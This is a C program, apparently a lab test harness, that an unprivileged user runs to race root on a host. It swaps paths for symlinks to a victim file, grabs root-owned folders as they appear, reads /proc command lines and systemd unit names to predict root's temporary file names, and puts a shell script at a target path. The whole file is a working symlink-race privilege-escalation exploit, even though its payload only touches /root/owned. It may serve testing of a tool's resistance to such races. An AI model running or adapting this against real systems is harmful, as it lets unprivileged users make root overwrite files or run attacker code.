// An ordinary user of a lab host who wants root to act where it didn't mean to: cc -O2 -static. Runs until it is killed.
// usage: attacker PATH VICTIM MOVE…
//   wait   does the moves after it only while a transaction of root's is open
//   flip   swaps what stands at PATH for a link to VICTIM, and back, again and again
//   lend   puts a program of its own at PATH
//   plant  learns from units, processes and folders how root calls its things, and puts links to VICTIM there before it
//   pounce takes a folder of root's at PATH away the moment that it is there, for a link to VICTIM
//   stand  puts a link to VICTIM at PATH wherever nothing stands there
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static char folder[512], lure[600], aside[600];

static void link_at(const char *name, const char *victim) {
  char path[900];
  snprintf(path, sizeof path, "%s/%s", folder, name);
  if (symlink(victim, path) == 0) return;
  char gone[900];
  struct stat there;
  // What root has put there and others may rename goes elsewhere, and the link takes its place.
  if (lstat(path, &there) == 0 && there.st_uid == 0) {
    snprintf(gone, sizeof gone, "%s/.got-%d", folder, rand() % 1000);
    if (rename(path, gone) == 0 && symlink(victim, path) != 0) rename(gone, path);
  }
}

static void plant_word(const char *word, const char *victim) {
  char name[200];
  for (int change = 0; change <= 8; change++) {
    snprintf(name, sizeof name, change ? ".suture-%s-c%d" : ".suture-%s", word, change);
    link_at(name, victim);
    if (change == 0) continue;
    strncat(name, "-old", sizeof name - strlen(name) - 1);
    link_at(name, victim);
  }
}

static void plant_words_after(const char *text, size_t length, const char *mark, const char *victim) {
  for (const char *at = text; (at = memmem(at, length - (at - text), mark, strlen(mark))) != NULL;) {
    char word[80];
    at += strlen(mark);
    size_t size = strspn(at, "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-");
    if (size < 6 || size >= sizeof word) continue;
    snprintf(word, sizeof word, "%.*s", (int)size, at);
    plant_word(word, victim);
  }
}

static void learn(const char *from, int processes, const char *victim) {
  DIR *all = opendir(from);
  if (all == NULL) return;
  for (struct dirent *each; (each = readdir(all)) != NULL;) {
    static const char *marks[] = {".suture-", "suture-boot-", "suture-undo-", "/tx/", "/armed/"};
    char text[4096] = "";
    ssize_t length;
    if (processes) {
      char path[300];
      snprintf(path, sizeof path, "%s/%s/cmdline", from, each->d_name);
      int file = open(path, O_RDONLY);
      if (file < 0) continue;
      length = read(file, text, sizeof text - 1);
      close(file);
    } else {
      struct stat its;
      if (fstatat(dirfd(all), each->d_name, &its, AT_SYMLINK_NOFOLLOW) != 0 || its.st_uid != 0) continue;
      length = snprintf(text, sizeof text, "%s", each->d_name);
    }
    if (length <= 0) continue;
    text[length] = 0;
    for (size_t mark = 0; mark < sizeof marks / sizeof *marks; mark++) plant_words_after(text, length, marks[mark], victim);
  }
  closedir(all);
}

static int is_open(void) {
  int seen = 0;
  DIR *units = opendir("/etc/systemd/system");
  if (units == NULL) return 0;
  for (struct dirent *each; (each = readdir(units)) != NULL;) seen |= !strncmp(each->d_name, "suture-boot-", 12);
  closedir(units);
  return seen;
}

static void nap(long longest) {
  struct timespec a_while = {0, rand() % longest};
  nanosleep(&a_while, NULL);
}

static void flip(const char *path, const char *victim) {
  symlink(victim, lure);
  if (renameat2(AT_FDCWD, path, AT_FDCWD, lure, RENAME_EXCHANGE) != 0) return;
  nap(2000000);
  renameat2(AT_FDCWD, path, AT_FDCWD, lure, RENAME_EXCHANGE);
  nap(6000000);
}

static void pounce(const char *path, const char *victim) {
  struct stat there;
  char gone[600];
  for (long looks = 0; looks < 200000; looks++) {
    if (lstat(path, &there) != 0 || !S_ISDIR(there.st_mode) || there.st_uid != 0) continue;
    snprintf(gone, sizeof gone, "%s/.got-%d", folder, rand() % 1000);
    if (rename(path, gone) == 0) symlink(victim, path);
    return;
  }
}

static void lend(const char *path) {
  int file = open(aside, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (file < 0) return;
  dprintf(file, "#!/bin/sh\ntouch /root/owned\n");
  close(file);
  rename(aside, path);
  nap(3000000);
}

int main(int count, char **words) {
  const char *path = words[1], *victim = words[2];
  struct stat there;
  snprintf(folder, sizeof folder, "%s", path);
  *strrchr(folder, '/') = 0;
  snprintf(lure, sizeof lure, "%s/.lure", folder);
  snprintf(aside, sizeof aside, "%s/.aside", folder);
  srand(getpid());
  for (long round = 0;; round++) {
    for (int word = 3; word < count; word++) {
      if (!strcmp(words[word], "wait") && !is_open()) break;
      if (!strcmp(words[word], "flip")) flip(path, victim);
      if (!strcmp(words[word], "pounce")) pounce(path, victim);
      if (!strcmp(words[word], "lend")) lend(path);
      if (!strcmp(words[word], "stand") && lstat(path, &there) != 0) symlink(victim, path);
      if (!strcmp(words[word], "plant") && round % 2 == 0) {
        learn("/etc/systemd/system", 0, victim);
        learn("/proc", 1, victim);
        learn(folder, 0, victim);
      }
    }
    nap(200000);
  }
}
